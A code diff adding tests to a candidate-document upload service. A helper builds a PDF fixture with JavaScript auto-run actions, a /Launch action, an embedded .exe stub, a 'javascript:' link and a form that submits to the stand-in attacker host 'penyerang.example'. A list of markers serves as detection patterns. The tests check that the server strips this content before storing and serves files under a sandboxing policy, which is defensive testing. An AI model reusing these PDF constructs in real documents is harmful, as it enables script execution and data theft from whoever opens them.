@@ -375,3 +375,258 @@ def test_rolled_back_upload_leaves_no_file_and_keeps_the_old_one(
         db.session.rollback()
     assert files_in(folder) == before
     assert stored_row(app).storage_name == old.storage_name
+
+
+# --- probe, issue 12: active content in PDFs ------------------------------------------
+
+# Alphanumeric markers: pypdf escapes punctuation in strings, these stay greppable.
+ACTIVE_CONTENT_MARKERS = (
+    b"/JavaScript",
+    b"/JS",
+    b"/OpenAction",
+    b"/AA",
+    b"/Launch",
+    b"/EmbeddedFile",
+    b"/EF",
+    b"/FileAttachment",
+    b"/SubmitForm",
+    b"MarkerOpenAction",
+    b"MarkerDocumentAA",
+    b"MarkerPageAA",
+    b"MarkerNameTree",
+    b"MarkerLinkJS",
+    b"MarkerEmbeddedPayload",
+    b"MarkerLaunchExe",
+    b"MarkerAnnotationAttachment",
+    b"MarkerWidgetAA",
+    b"MarkerSubmitForm",
+    b"MarkerNextJS",
+    b"javascript",
+    b"PenulisRahasia",
+)
+
+
+def _pdf_with_active_content() -> bytes:
+    """A one-page PDF carrying every kind of active content a viewer might run or open."""
+    from pypdf import PdfWriter
+    from pypdf.generic import (
+        ArrayObject,
+        DictionaryObject,
+        FloatObject,
+        NameObject,
+        NumberObject,
+        StreamObject,
+        TextStringObject,
+    )
+
+    def name(value: str) -> NameObject:
+        return NameObject(value)
+
+    def js(code: str, **more) -> DictionaryObject:
+        action = DictionaryObject(
+            {name("/S"): name("/JavaScript"), name("/JS"): TextStringObject(code)}
+        )
+        action.update({name(k): v for k, v in more.items()})
+        return action
+
+    def rect() -> ArrayObject:
+        return ArrayObject([FloatObject(v) for v in (10, 10, 100, 100)])
+
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=595, height=842)
+    root = writer.root_object
+    writer.add_metadata({"/Author": "PenulisRahasia"})
+    # Document level: /OpenAction, /AA, /Names /JavaScript and /Names /EmbeddedFiles.
+    root[name("/OpenAction")] = js("MarkerOpenAction", **{"/Next": js("MarkerNextJS")})
+    root[name("/AA")] = DictionaryObject({name("/WC"): js("MarkerDocumentAA")})
+    writer.add_attachment("MarkerEmbeddedPayload.exe", b"MZ MarkerEmbeddedPayload")
+    root["/Names"][name("/JavaScript")] = DictionaryObject(
+        {
+            name("/Names"): ArrayObject(
+                [TextStringObject("x"), writer._add_object(js("MarkerNameTree"))]
+            )
+        }
+    )
+    # Page level: /AA, and annotations whose actions run script, launch or submit.
+    page[name("/AA")] = DictionaryObject({name("/O"): js("MarkerPageAA")})
+    embedded = StreamObject()
+    embedded.set_data(b"MarkerAnnotationAttachment")
+    embedded[name("/Type")] = name("/EmbeddedFile")
+    annotations = [
+        {"/Subtype": name("/Link"), "/A": js("MarkerLinkJS")},
+        {
+            "/Subtype": name("/Link"),
+            "/A": DictionaryObject(
+                {name("/S"): name("/Launch"), name("/F"): TextStringObject("MarkerLaunchExe")}
+            ),
+        },
+        {
+            "/Subtype": name("/Link"),
+            "/A": DictionaryObject(
+                {name("/S"): name("/URI"), name("/URI"): TextStringObject("javascript:alert(1)")}
+            ),
+        },
+        {
+            # Indirect, as a hostile file may write it: it must still be recognised.
+            "/Subtype": writer._add_object(name("/FileAttachment")),
+            "/FS": DictionaryObject(
+                {
+                    name("/Type"): name("/Filespec"),
+                    name("/F"): TextStringObject("lampiran.exe"),
+                    name("/EF"): DictionaryObject({name("/F"): writer._add_object(embedded)}),
+                }
+            ),
+        },
+        {
+            "/Subtype": name("/Widget"),
+            "/FT": name("/Btn"),
+            "/T": TextStringObject("tombol"),
+            "/AA": DictionaryObject({name("/U"): js("MarkerWidgetAA")}),
+            "/A": DictionaryObject(
+                {
+                    name("/S"): name("/SubmitForm"),
+                    name("/F"): TextStringObject("https://penyerang.example/MarkerSubmitForm"),
+                }
+            ),
+        },
+        # A harmless link stays: CVs link to a portfolio.
+        {
+            "/Subtype": name("/Link"),
+            "/A": DictionaryObject(
+                {
+                    name("/S"): name("/URI"),
+                    name("/URI"): TextStringObject("https://contoh.example/"),
+                }
+            ),
+        },
+    ]
+    page[name("/Annots")] = writer._add_object(
+        ArrayObject(
+            writer._add_object(
+                DictionaryObject(
+                    {
+                        name("/Type"): name("/Annot"),
+                        name("/Rect"): rect(),
+                        name("/F"): NumberObject(4),
+                        **{name(k): v for k, v in annotation.items()},
+                    }
+                )
+            )
+            for annotation in annotations
+        )
+    )
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def test_pdf_active_content_is_removed_before_storing(app, candidate, folder):
+    original = _pdf_with_active_content()
+    for marker in ACTIVE_CONTENT_MARKERS:
+        assert marker in original, marker  # the test file really carries it
+
+    response = upload(candidate, "cv", original, "cv.pdf")
+    assert response.status_code == 200, response.json
+    assert response.json["content_type"] == "application/pdf"
+    stored = stored_bytes(folder, stored_row(app, "cv"))
+    downloaded = candidate.get("/api/v1/me/documents/cv")
+    assert downloaded.status_code == 200
+    assert downloaded.data == stored
+    for marker in ACTIVE_CONTENT_MARKERS:
+        assert marker not in stored, marker
+
+    from pypdf import PdfReader
+
+    reader = PdfReader(io.BytesIO(stored))
+    assert len(reader.pages) == 1  # the pages are kept
+    assert not reader.attachments
+    for key in ("/OpenAction", "/AA", "/Names", "/AcroForm"):
+        assert key not in reader.trailer["/Root"], key
+    annotations = [a.get_object() for a in reader.pages[0].get("/Annots", [])]
+    uris = [a["/A"]["/URI"] for a in annotations if "/A" in a]
+    assert uris == ["https://contoh.example/"]
+
+
+def test_pdf_download_has_a_sandboxing_csp(app, candidate):
+    assert upload(candidate, "cv", pdf_bytes(), "cv.pdf").status_code == 200
+    for path in ("/api/v1/me/documents/cv", "/dokumen/cv/unduh"):
+        response = candidate.get(path)
+        assert response.status_code == 200, path
+        policy = {
+            part.strip().split(" ", 1)[0]: part.strip()
+            for part in response.headers["Content-Security-Policy"].split(";")
+            if part.strip()
+        }
+        assert policy["default-src"] == "default-src 'none'", path
+        assert "sandbox" in policy, path
+        assert response.headers["Content-Disposition"].startswith("attachment;"), path
+        assert response.headers["X-Content-Type-Options"] == "nosniff", path
+
+
+def test_truncated_pdf_is_refused_clearly(app, candidate):
+    data = _pdf_with_active_content()
+    response = upload(candidate, "cv", data[: len(data) // 3], "cv.pdf")
+    assert response.status_code == 422, response.json
+    assert response.json["error"]["code"] == "invalid_file"
+    assert "PDF" in response.json["error"]["message"]
+    assert stored_row(app, "cv") is None
+
+
+# --- probe, issue 12: each kind has its own file types -----------------------------------
+
+
+@pytest.mark.parametrize("kind", ["photo", "phone_spec"])
+def test_pdf_is_refused_where_an_image_is_required(app, candidate, folder, kind):
+    before = files_in(folder)
+    response = upload(candidate, kind, pdf_bytes(), "berkas.pdf")
+    assert response.status_code == 415, response.json
+    assert response.json["error"]["code"] == "unsupported_file_type"
+    message = response.json["error"]["message"]
+    assert "JPEG atau PNG" in message
+    assert "PDF" not in message
+    assert stored_row(app, kind) is None
+    assert files_in(folder) == before
+
+
+@pytest.mark.parametrize(
+    ("kind", "data"),
+    [
+        ("photo", jpeg_bytes()),
+        ("photo", png_bytes()),
+        ("phone_spec", png_bytes()),
+        ("ktp", jpeg_bytes()),
+        ("ktp", pdf_bytes()),
+        ("diploma", pdf_bytes()),
+        ("diploma", jpeg_bytes()),
+        ("cv", pdf_bytes()),
+        ("cv", png_bytes()),
+        ("application_letter", pdf_bytes()),
+        ("application_letter", jpeg_bytes()),
+    ],
+)
+def test_allowed_types_per_kind_still_pass(candidate, kind, data):
+    assert upload(candidate, kind, data).status_code == 200
+
+
+def test_documents_page_says_per_kind_what_it_accepts(app, candidate):
+    html = candidate.get("/dokumen").get_data(as_text=True)
+
+    def section(kind: str) -> str:
+        start = html.index(f'id="dokumen-{kind}"')
+        end = html.find("</section>", start)
+        return html[start:end]
+
+    for kind in ("photo", "phone_spec"):
+        assert 'accept="image/jpeg,image/png"' in section(kind), kind
+        assert "JPEG atau PNG" in section(kind), kind
+    for kind in ("ktp", "diploma", "cv", "application_letter"):
+        assert 'accept="image/jpeg,image/png,application/pdf"' in section(kind), kind
+        assert "JPEG, PNG, atau PDF" in section(kind), kind
+
+    response = post_page(candidate, "photo", pdf_bytes(), "foto.pdf")
+    assert response.status_code == 415
+    refused = response.get_data(as_text=True)
+    start = refused.index('id="dokumen-photo"')
+    assert "JPEG atau PNG" in refused[start : refused.find("</section>", start)]
+    assert 'role="alert"' in refused[start : refused.find("</section>", start)]
+    assert stored_row(app, "photo") is None
